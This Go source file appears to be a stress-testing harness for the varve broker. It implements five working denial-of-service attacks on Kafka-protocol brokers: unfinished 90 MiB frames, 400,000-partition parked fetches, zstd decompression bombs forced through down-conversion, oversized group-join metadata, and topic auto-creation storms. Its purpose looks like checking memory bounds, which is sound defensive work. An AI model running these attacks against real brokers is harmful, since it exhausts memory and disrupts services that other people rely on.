package main

import (
	"bytes"
	"context"
	"fmt"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"

	"github.com/varve/varve/record"
)

// target is the broker under attack and how hard to hit it.
type target struct {
	addr string
	n    float64 // multiple of the attack as first reproduced (scale times -quick's size)
	hold time.Duration
}

// count is k scaled, at least 1.
func (t target) count(k int) int { return max(1, int(float64(k)*t.n+0.5)) }

// attack runs against a broker and returns a line saying what it did
// (and what the broker answered, where it answered). It leaves its
// connections open until the memory sample is over: release closes them.
type attack func(ctx context.Context, t target) (detail string, release func(), err error)

var attacks = map[string]attack{
	"partial-frames":      partialFrames,
	"fetch-amplification": fetchAmplification,
	"downconvert-bomb":    downconvertBomb,
	"group-metadata":      groupMetadata,
	"autocreate-storm":    autocreateStorm,
}

func attackNames() []string {
	return []string{"partial-frames", "fetch-amplification", "downconvert-bomb", "group-metadata", "autocreate-storm"}
}

// partialFrames: connections that announce a 90 MiB request and send as
// much of an 89 MiB body as the broker will read, never finishing.
func partialFrames(ctx context.Context, t target) (string, func(), error) {
	conns, err := dialAll(t.addr, t.count(24))
	if err != nil {
		return "", nil, err
	}
	deadline := time.Now().Add(t.hold)
	var sent atomic.Int64
	var wg sync.WaitGroup
	for _, c := range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sent.Add(sendPartial(c, 90<<20, 89<<20, deadline))
		}()
	}
	wg.Wait()
	return fmt.Sprintf("%d connections sent %d MiB of bodies in %v", len(conns), sent.Load()>>20, t.hold), func() { closeAll(conns) }, nil
}

// sendPartial writes a size prefix and up to body bytes, stopping at the
// deadline (a broker that stops reading blocks the writes); it returns
// the body bytes written.
func sendPartial(c *conn, size, body int, deadline time.Time) int64 {
	c.c.SetWriteDeadline(deadline)
	if _, err := c.c.Write([]byte{byte(size >> 24), byte(size >> 16), byte(size >> 8), byte(size)}); err != nil {
		return 0
	}
	chunk := make([]byte, 1<<20)
	var n int64
	for n < int64(body) {
		w, err := c.c.Write(chunk)
		n += int64(w)
		if err != nil {
			break
		}
	}
	return n
}

// fetchAmplification: Fetch v4 requests naming one partition 400,000
// times with max_wait 20 s on an empty topic, so that they park.
func fetchAmplification(ctx context.Context, t target) (string, func(), error) {
	if err := createTopic(ctx, t.addr, "amp", nil); err != nil {
		return "", nil, err
	}
	req := kmsg.NewPtrFetchRequest()
	req.ReplicaID, req.MaxWaitMillis, req.MinBytes, req.MaxBytes = -1, 20000, 1, 50<<20
	ft := kmsg.NewFetchRequestTopic()
	ft.Topic = "amp"
	p := kmsg.NewFetchRequestTopicPartition()
	p.Partition, p.FetchOffset, p.PartitionMaxBytes = 0, 0, 1<<20
	ft.Partitions = make([]kmsg.FetchRequestTopicPartition, 400_000)
	for i := range ft.Partitions {
		ft.Partitions[i] = p
	}
	req.Topics = []kmsg.FetchRequestTopic{ft}
	conns, err := dialAll(t.addr, t.count(4))
	if err != nil {
		return "", nil, err
	}
	for _, c := range conns {
		if err := c.send(req, 4, time.Now().Add(30*time.Second)); err != nil {
			closeAll(conns)
			return "", nil, fmt.Errorf("send fetch: %w", err)
		}
	}
	time.Sleep(t.hold)
	return fmt.Sprintf("%d parked fetches of 400,000 partitions each", len(conns)), func() { closeAll(conns) }, nil
}

// downconvertBomb: batches of one 60 MiB record of zeros, zstd-compressed
// to a few KiB, fetched by clients old enough to need magic 1.
func downconvertBomb(ctx context.Context, t target) (string, func(), error) {
	cfg := map[string]*string{"max.message.bytes": kadm.StringPtr(strconv.Itoa(100 << 20))}
	if err := createTopic(ctx, t.addr, "bomb", cfg); err != nil {
		return "", nil, err
	}
	batches := t.count(40)
	if err := produceBombs(t.addr, "bomb", batches, 60<<20); err != nil {
		return "", nil, err
	}
	req := kmsg.NewPtrFetchRequest()
	req.ReplicaID, req.MaxWaitMillis, req.MinBytes = -1, 500, 1
	ft := kmsg.NewFetchRequestTopic()
	ft.Topic = "bomb"
	p := kmsg.NewFetchRequestTopicPartition()
	p.Partition, p.FetchOffset, p.PartitionMaxBytes = 0, 0, 1<<30
	ft.Partitions = []kmsg.FetchRequestTopicPartition{p}
	req.Topics = []kmsg.FetchRequestTopic{ft}
	conns, err := dialAll(t.addr, t.count(2))
	if err != nil {
		return "", nil, err
	}
	answered := make([]string, len(conns))
	var wg sync.WaitGroup
	for i, c := range conns {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			answered[i] = fetchOnce(c, req, 2, t.hold)
		}(i)
	}
	wg.Wait()
	return fmt.Sprintf("%d batches of 60 MiB stored; %d Fetch v2: %v", batches, len(conns), summarize(answered)),
		func() { closeAll(conns) }, nil
}

// fetchOnce sends req and says how the broker answered within hold.
func fetchOnce(c *conn, req kmsg.Request, v int16, hold time.Duration) string {
	deadline := time.Now().Add(hold)
	if err := c.send(req, v, deadline); err != nil {
		return "send failed"
	}
	b, err := c.readResponse(req, deadline, 1<<31-1)
	if err != nil {
		return "no answer"
	}
	return fmt.Sprintf("%d MiB answer", len(b)>>20)
}

func produceBombs(addr, topic string, n, size int) error {
	bb := record.NewBatchBuilder(record.CompressionZstd)
	bb.Append(record.Record{Value: make([]byte, size)})
	batch, err := bb.Build()
	if err != nil {
		return err
	}
	c, err := dial(addr)
	if err != nil {
		return err
	}
	defer c.Close()
	req := kmsg.NewPtrProduceRequest()
	req.Acks, req.TimeoutMillis = 1, 30000
	tp := kmsg.NewProduceRequestTopic()
	tp.Topic = topic
	pp := kmsg.NewProduceRequestTopicPartition()
	pp.Records = batch
	tp.Partitions = []kmsg.ProduceRequestTopicPartition{pp}
	req.Topics = []kmsg.ProduceRequestTopic{tp}
	for range n {
		if err := c.send(req, 3, time.Now().Add(10*time.Second)); err != nil {
			return err
		}
		b, err := c.readResponse(req, time.Now().Add(30*time.Second), 1<<20)
		if err != nil {
			return fmt.Errorf("produce bomb: %w", err)
		}
		resp := kmsg.NewPtrProduceResponse()
		resp.SetVersion(3)
		if err := resp.ReadFrom(b); err != nil {
			return err
		}
		if code := resp.Topics[0].Partitions[0].ErrorCode; code != 0 {
			return fmt.Errorf("produce bomb: error code %d", code)
		}
	}
	return nil
}

// groupMetadata: members of new groups, each joining with 8 MiB of
// protocol metadata. A first JoinGroup without a member id is answered
// MEMBER_ID_REQUIRED with the id to use (KIP-394), as a real client sees;
// the second, carrying the metadata, makes the member, which the broker
// keeps until its session times out.
func groupMetadata(ctx context.Context, t target) (string, func(), error) {
	meta := bytes.Repeat([]byte{7}, 8<<20)
	conns, err := dialAll(t.addr, t.count(40))
	if err != nil {
		return "", nil, err
	}
	sent, refused := 0, ""
	for i, c := range conns {
		group := fmt.Sprintf("attack-%d", i)
		member, err := memberID(c, group)
		if err != nil {
			refused = err.Error() // refused or unanswered: nothing held
			continue
		}
		req := joinRequest(group, member, meta)
		if err := c.send(req, 5, time.Now().Add(t.hold)); err != nil {
			break // a broker that stops reading is what a bound looks like
		}
		sent++
	}
	time.Sleep(t.hold)
	detail := fmt.Sprintf("%d members joined new groups with 8 MiB of metadata each", sent)
	if refused != "" {
		detail += "; a first join failed: " + refused
	}
	return detail, func() { closeAll(conns) }, nil
}

func joinRequest(group, member string, meta []byte) *kmsg.JoinGroupRequest {
	req := kmsg.NewPtrJoinGroupRequest()
	req.Group, req.MemberID, req.ProtocolType = group, member, "consumer"
	req.SessionTimeoutMillis, req.RebalanceTimeoutMillis = 30000, 60000
	p := kmsg.NewJoinGroupRequestProtocol()
	p.Name, p.Metadata = "range", meta
	req.Protocols = []kmsg.JoinGroupRequestProtocol{p}
	return req
}

// memberID asks for the member id a new member must join with, after
// FindCoordinator as a client does (it also makes the broker create
// __consumer_offsets), retrying while the coordinator loads.
func memberID(c *conn, group string) (string, error) {
	fc := kmsg.NewPtrFindCoordinatorRequest()
	fc.CoordinatorKey = group
	if err := c.send(fc, 2, time.Now().Add(5*time.Second)); err != nil {
		return "", err
	}
	if _, err := c.readResponse(fc, time.Now().Add(10*time.Second), 1<<20); err != nil {
		return "", err
	}
	var err error
	for range 50 {
		var id string
		if id, err = askMemberID(c, group); err == nil {
			return id, nil
		}
		time.Sleep(200 * time.Millisecond)
	}
	return "", err
}

func askMemberID(c *conn, group string) (string, error) {
	req := joinRequest(group, "", []byte{0})
	if err := c.send(req, 5, time.Now().Add(5*time.Second)); err != nil {
		return "", err
	}
	b, err := c.readResponse(req, time.Now().Add(5*time.Second), 1<<20)
	if err != nil {
		return "", err
	}
	resp := kmsg.NewPtrJoinGroupResponse()
	resp.SetVersion(5)
	if err := resp.ReadFrom(b); err != nil {
		return "", err
	}
	if resp.MemberID == "" {
		return "", fmt.Errorf("join answered %d without a member id", resp.ErrorCode)
	}
	return resp.MemberID, nil
}

// autocreateStorm: one Metadata request naming thousands of unknown
// topics with auto-creation allowed.
func autocreateStorm(ctx context.Context, t target) (string, func(), error) {
	n := t.count(3000)
	req := kmsg.NewPtrMetadataRequest()
	req.AllowAutoTopicCreation = true
	for i := range n {
		mt := kmsg.NewMetadataRequestTopic()
		mt.Topic = kmsg.StringPtr(fmt.Sprintf("storm-%d", i))
		req.Topics = append(req.Topics, mt)
	}
	c, err := dial(t.addr)
	if err != nil {
		return "", nil, err
	}
	start := time.Now()
	wait := max(t.hold, 60*time.Second)
	if err := c.send(req, 9, time.Now().Add(wait)); err != nil {
		c.Close()
		return "", nil, err
	}
	b, err := c.readResponse(req, time.Now().Add(wait), 1<<30)
	if err != nil {
		return fmt.Sprintf("Metadata naming %d unknown topics: no answer in %v", n, wait), func() { c.Close() }, nil
	}
	resp := kmsg.NewPtrMetadataResponse()
	resp.SetVersion(9)
	if err := resp.ReadFrom(b); err != nil {
		c.Close()
		return "", nil, err
	}
	created := 0
	for _, tp := range resp.Topics {
		if tp.ErrorCode == 0 {
			created++
		}
	}
	return fmt.Sprintf("Metadata naming %d unknown topics answered in %v, %d topics usable",
		n, time.Since(start).Round(time.Millisecond), created), func() { c.Close() }, nil
}

func createTopic(ctx context.Context, addr, topic string, configs map[string]*string) error {
	cl, err := kgo.NewClient(kgo.SeedBrokers(addr))
	if err != nil {
		return err
	}
	defer cl.Close()
	resp, err := kadm.NewClient(cl).CreateTopic(ctx, 1, 1, configs, topic)
	if err == nil {
		err = resp.Err
	}
	return err
}

func summarize(answers []string) map[string]int {
	out := map[string]int{}
	for _, a := range answers {
		out[a]++
	}
	return out
}
